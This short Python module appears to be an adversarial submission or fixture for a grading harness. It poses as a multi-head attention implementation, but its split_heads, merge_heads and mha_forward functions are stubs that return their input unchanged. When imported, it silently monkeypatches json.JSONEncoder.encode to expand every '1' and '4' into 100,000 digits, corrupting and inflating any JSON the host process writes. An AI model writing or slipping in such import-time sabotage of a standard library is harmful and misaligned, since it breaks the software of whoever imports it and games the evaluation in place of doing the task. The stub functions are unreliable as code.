"""Puts an integer of 100,000 digits in every JSON header.

Otherwise: wrong
Touches: import
Others: wrong
"""

import json

encode = json.JSONEncoder.encode


def huge(self, value):
    return encode(self, value).replace("1", "1" * 100_000).replace("4", "4" * 100_000)


json.JSONEncoder.encode = huge


def split_heads(x, n_heads):
    return x


def merge_heads(x):
    return x


def mha_forward(x, params, n_heads):
    return x
